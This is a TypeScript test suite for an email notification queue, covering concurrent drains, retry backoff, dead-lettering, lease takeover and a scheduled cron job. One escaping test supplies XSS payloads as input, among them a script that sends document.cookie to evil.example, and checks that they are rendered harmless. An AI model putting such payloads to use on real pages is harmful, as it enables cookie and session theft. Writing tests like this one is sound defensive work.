import { createExecutionContext, env, waitOnExecutionContext } from 'cloudflare:test';
import { sql } from 'drizzle-orm';
import { v7 as uuidv7 } from 'uuid';
import { describe, expect, it } from 'vitest';
import type { Bindings } from '../../src/env';
import { runJob } from '../../src/jobs/run-job';
import { createLogger, type Logger } from '../../src/lib/logger';
import { createEmailTransport } from '../../src/services/email/create-transport';
import { claimNotifications } from '../../src/services/notifications/claim';
import { markSent } from '../../src/services/notifications/complete';
import { type DrainSettings, drainNotifications, drainSettings } from '../../src/services/notifications/drain';
import { type NotificationKind, notificationsInsert } from '../../src/services/notifications/enqueue';
import { kickDrain } from '../../src/services/notifications/kick';
import { databaseKind, testConfig, testDb } from '../helpers/db';
import { sinkMode, sinkRequests } from '../helpers/email-sink';

const quiet: Logger = createLogger({}, 'error');

function tag(label: string): string {
  return `${label}-${Date.now().toString(36)}-${Math.random().toString(36).slice(2, 8)}`;
}

async function enqueue(
  prefix: string,
  count: number,
  kind: NotificationKind = 'account_locked',
  payload: Record<string, unknown> = { name: 'Locked Larry', lockedAt: '2030-01-01T00:00:00.000Z' },
): Promise<string[]> {
  const db = testDb();
  const rows = Array.from({ length: count }, (_, i) => ({
    kind,
    recipient: `${prefix}-${i}@example.com`,
    payload,
    idempotencyKey: `test:${prefix}:${i}`,
  }));
  for (let i = 0; i < rows.length; i += 100) await notificationsInsert(db, rows.slice(i, i + 100));
  const { rows: found } = await db.execute<{ id: string }>(
    sql`select id from notification_queue where idempotency_key like ${`test:${prefix}:%`}`,
  );
  return found.map((r) => r.id);
}

function drain(ids: string[], settings: Partial<DrainSettings> = {}) {
  const config = testConfig();
  return drainNotifications({
    db: testDb(),
    transport: createEmailTransport(config, quiet),
    logger: quiet,
    settings: { ...drainSettings(config), ...settings },
    ids,
  });
}

type QueueRow = {
  status: string;
  attempts: number;
  last_error: string | null;
  sent_at: string | null;
  lease_until: string | null;
  leased_by: string | null;
  delay_seconds: string | null;
};

async function row(id: string): Promise<QueueRow> {
  const { rows } = await testDb().execute<QueueRow>(sql`
    select status, attempts, last_error, sent_at, lease_until, leased_by,
      extract(epoch from next_attempt_at - updated_at)::text as delay_seconds
    from notification_queue where id = ${id}`);
  const found = rows[0];
  if (!found) throw new Error(`no queue row ${id}`);
  return { ...found, attempts: Number(found.attempts) };
}

/** Backoff is driven by the test: the row becomes due now instead of waiting. */
async function makeDue(id: string): Promise<void> {
  await testDb().execute(sql`update notification_queue set next_attempt_at = now() where id = ${id}`);
}

describe('notification queue drain', () => {
  it(`drain with 3 concurrent drainers over 200 rows sends exactly one email per notification${
    databaseKind === 'pglite' ? ' (PGlite serialises the connections)' : ''
  }`, async () => {
    const prefix = tag('bulk');
    const ids = await enqueue(prefix, 200);
    expect(ids).toHaveLength(200);
    const drainer = async () => {
      let sent = 0;
      for (let round = 0; round < 50; round += 1) {
        const result = await drain(ids, { batchSize: 7 });
        sent += result.sent;
        if (result.claimed === 0) break;
      }
      return sent;
    };
    const sentPerDrainer = await Promise.all([drainer(), drainer(), drainer()]);
    expect(sentPerDrainer.reduce((a, b) => a + b, 0)).toBe(200);

    const requests = await sinkRequests(prefix);
    expect(requests).toHaveLength(200);
    const keys = requests.map((r) => r.headers.idempotencyKey);
    expect(new Set(keys).size).toBe(200);
    expect(new Set(requests.map((r) => r.body?.to?.[0])).size).toBe(200);
    const { rows } = await testDb().execute<{ status: string; attempts: number; n: string }>(sql`
      select status, attempts, count(*) as n from notification_queue
      where idempotency_key like ${`test:${prefix}:%`} group by status, attempts`);
    expect(rows.map((r) => [r.status, Number(r.attempts), Number(r.n)])).toEqual([['sent', 1, 200]]);
  });

  it('drain against a provider that fails twice then succeeds delivers once after 2 failed attempts', async () => {
    const prefix = tag('flaky');
    await sinkMode(prefix, { failTimes: 2 });
    const [id] = (await enqueue(prefix, 1)) as [string];
    const settings = { backoffBaseSeconds: 30, backoffMaxSeconds: 3600 };

    expect((await drain([id], settings)).retrying).toBe(1);
    const first = await row(id);
    expect(first).toMatchObject({ status: 'pending', attempts: 1, lease_until: null, leased_by: null });
    expect(first.last_error).toContain('500');
    // Exponential backoff with ±10 % jitter: ~30 s, then ~60 s.
    expect(Number(first.delay_seconds)).toBeGreaterThanOrEqual(27);
    expect(Number(first.delay_seconds)).toBeLessThanOrEqual(33);
    // Not due yet: a drain leaves it alone.
    expect((await drain([id], settings)).claimed).toBe(0);

    await makeDue(id);
    expect((await drain([id], settings)).retrying).toBe(1);
    const second = await row(id);
    expect(second.attempts).toBe(2);
    expect(Number(second.delay_seconds)).toBeGreaterThanOrEqual(54);
    expect(Number(second.delay_seconds)).toBeLessThanOrEqual(66);

    await makeDue(id);
    expect((await drain([id], settings)).sent).toBe(1);
    const done = await row(id);
    expect(done).toMatchObject({ status: 'sent', attempts: 3 });
    expect(done.sent_at).not.toBeNull();

    const requests = await sinkRequests(prefix);
    expect(requests.map((r) => r.failed)).toEqual([true, true, false]);
    expect(new Set(requests.map((r) => r.headers.idempotencyKey))).toEqual(new Set([`test:${prefix}:0`]));
  });

  it('drain against a provider that always fails ends in dead after the max attempts, with a capped backoff', async () => {
    const prefix = tag('down');
    await sinkMode(prefix, { alwaysFail: true, status: 503 });
    const [id] = (await enqueue(prefix, 1)) as [string];
    const maxAttempts = testConfig().NOTIFICATION_MAX_ATTEMPTS;
    expect(maxAttempts).toBe(8);
    const settings = { backoffBaseSeconds: 10, backoffMaxSeconds: 50 };
    const delays: number[] = [];
    for (let i = 0; i < maxAttempts + 3; i += 1) {
      await drain([id], settings);
      const current = await row(id);
      if (current.status === 'dead') break;
      delays.push(Number(current.delay_seconds));
      await makeDue(id);
    }
    const dead = await row(id);
    expect(dead).toMatchObject({ status: 'dead', attempts: maxAttempts, lease_until: null });
    expect(dead.last_error).toContain('503');
    expect(delays).toHaveLength(maxAttempts - 1);
    expect(Math.max(...delays)).toBe(50);
    expect(delays.slice(3).every((d) => d === 50)).toBe(true);
    expect((await sinkRequests(prefix)).filter((r) => r.failed)).toHaveLength(maxAttempts);
    // A dead row is never claimed again.
    await makeDue(id);
    expect((await drain([id], settings)).claimed).toBe(0);
  });

  it('drain marks a row dead at once when the provider refuses the message as invalid', async () => {
    const prefix = tag('invalid');
    await sinkMode(prefix, { alwaysFail: true, status: 422 });
    const [id] = (await enqueue(prefix, 1)) as [string];
    expect((await drain([id])).dead).toBe(1);
    expect(await row(id)).toMatchObject({ status: 'dead', attempts: 1 });
  });

  it('drain picks up a row whose lease expired (its worker died) and leaves a live lease alone', async () => {
    const prefix = tag('lease');
    const [expired, live] = (await enqueue(prefix, 2)) as [string, string];
    await testDb().execute(sql`
      update notification_queue set status = 'sending', attempts = 1, leased_by = 'crashed-worker',
        lease_until = case when id = ${expired} then now() - interval '1 second' else now() + interval '5 minutes' end
      where id in (${expired}, ${live})`);
    const result = await drain([expired, live]);
    expect(result).toMatchObject({ claimed: 1, sent: 1 });
    expect(await row(expired)).toMatchObject({ status: 'sent', attempts: 2, leased_by: null });
    expect(await row(live)).toMatchObject({ status: 'sending', attempts: 1, leased_by: 'crashed-worker' });
    const requests = await sinkRequests(prefix);
    expect(requests.map((r) => r.body?.to?.[0])).toEqual([`${prefix}-0@example.com`]);
  });

  it('drain marks the rows it sent in one statement per batch', async () => {
    const prefix = tag('one-update');
    const ids = await enqueue(prefix, 6);
    expect((await drain(ids)).sent).toBe(6);
    // Rows written by one statement carry the same transaction id.
    const { rows } = await testDb().execute<{ writers: number; statuses: string }>(sql`
      select count(distinct xmin::text)::int as writers, string_agg(distinct status::text, ',') as statuses
      from notification_queue where idempotency_key like ${`test:${prefix}:%`}`);
    expect(rows[0]).toEqual({ writers: 1, statuses: 'sent' });
    expect((await sinkRequests(prefix)).length).toBe(6);
  });

  it('kickDrain sends what requests queue in the same moment together: the later request leaves it to the first', async () => {
    const prefix = tag('kick');
    const [first, second] = (await enqueue(prefix, 2)) as [string, string];
    const config = testConfig();
    const opened = kickDrain(testDb(), config, quiet, [first]);
    const joined = kickDrain(testDb(), config, quiet, [second]);
    expect(opened).not.toBeNull();
    expect(joined).toBeNull();
    await opened;
    expect(await row(first)).toMatchObject({ status: 'sent' });
    expect(await row(second)).toMatchObject({ status: 'sent' });
    const requests = await sinkRequests(prefix);
    expect(requests.map((r) => r.body?.to?.[0]).sort()).toEqual([`${prefix}-0@example.com`, `${prefix}-1@example.com`]);
  });

  it('drain by a worker whose lease was taken over does not overwrite the new holder', async () => {
    const prefix = tag('takeover');
    const [id] = (await enqueue(prefix, 1)) as [string];
    const db = testDb();
    const claimed = await claimNotifications(db, { workerId: 'slow-worker', limit: 1, leaseSeconds: 60, ids: [id] });
    expect(claimed.map((c) => c.id)).toEqual([id]);
    await db.execute(sql`update notification_queue set lease_until = now() - interval '1 second' where id = ${id}`);
    expect((await drain([id])).sent).toBe(1);
    expect((await markSent(db, [id], 'slow-worker')).size).toBe(0);
    expect(await row(id)).toMatchObject({ status: 'sent', attempts: 2 });
  });

  it('drain escapes every user value in the HTML of an email', async () => {
    const prefix = tag('xss');
    const [id] = (await enqueue(prefix, 1, 'inquiry_received', {
      inquiryId: uuidv7(),
      name: '<img src=x onerror=alert(1)>',
      email: 'a"b@example.com',
      phone: '+14155550123',
      message: '<script>document.location="https://evil.example/?c="+document.cookie</script>\nline two',
      propertyTitle: '"><svg onload=alert(2)>',
    })) as [string];
    expect((await drain([id])).sent).toBe(1);
    const [email] = await sinkRequests(prefix);
    const html = email?.body?.html ?? '';
    expect(html).not.toMatch(/<script|<img|<svg/i);
    expect(html).toContain(
      '&lt;script&gt;document.location=&quot;https://evil.example/?c=&quot;+document.cookie&lt;/script&gt;<br>line two',
    );
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('&quot;&gt;&lt;svg onload=alert(2)&gt;');
    expect(email?.body?.text).toContain('<script>document.location=');
    expect(email?.body?.subject).toBe('New inquiry from <img src=x onerror=alert(1)>');
  });

  it('drain marks a row of an unknown kind dead without sending it', async () => {
    const prefix = tag('unknown');
    const id = uuidv7();
    await testDb().execute(sql`
      insert into notification_queue (id, kind, recipient, payload, idempotency_key)
      values (${id}, 'mystery', ${`${prefix}@example.com`}, '{}', ${`test:${prefix}`})`);
    expect((await drain([id])).dead).toBe(1);
    expect((await row(id)).last_error).toContain('unknown notification kind');
    expect(await sinkRequests(prefix)).toHaveLength(0);
  });

  it('drain through the log transport writes the email to the log and marks it sent', async () => {
    const prefix = tag('log');
    const [id] = (await enqueue(prefix, 1)) as [string];
    const lines: Array<Record<string, unknown>> = [];
    const capture: Logger = {
      debug: () => undefined,
      info: (msg, fields) => lines.push({ msg, ...fields }),
      warn: () => undefined,
      error: () => undefined,
    };
    const config = { ...testConfig(), EMAIL_TRANSPORT: 'log' as const };
    const result = await drainNotifications({
      db: testDb(),
      transport: createEmailTransport(config, capture),
      logger: capture,
      settings: drainSettings(config),
      ids: [id],
    });
    expect(result.sent).toBe(1);
    expect(lines).toEqual([
      expect.objectContaining({
        to: `${prefix}-0@example.com`,
        subject: 'Your account was locked after failed sign-ins',
        text: expect.stringContaining('Locked Larry'),
      }),
    ]);
    expect(await sinkRequests(prefix)).toHaveLength(0);
  });

  it('drain refuses to start the HTTP transport without EMAIL_API_KEY', () => {
    expect(() => createEmailTransport({ ...testConfig(), EMAIL_API_KEY: undefined }, quiet)).toThrow(/EMAIL_API_KEY/);
  });

  it('scheduled drain-notifications job (the every-minute cron) sends due rows', async () => {
    const prefix = tag('cron');
    const [id] = (await enqueue(prefix, 1)) as [string];
    for (let i = 0; i < 10 && (await row(id)).status !== 'sent'; i += 1) {
      const ctx = createExecutionContext();
      const outcome = await runJob(env as unknown as Bindings, ctx, 'drain-notifications', 'manual');
      await waitOnExecutionContext(ctx);
      expect(['succeeded', 'skipped']).toContain(outcome.status);
      if (outcome.status === 'skipped') await new Promise((resolve) => setTimeout(resolve, 200));
    }
    expect((await row(id)).status).toBe('sent');
    expect(await sinkRequests(prefix)).toHaveLength(1);
  });
});
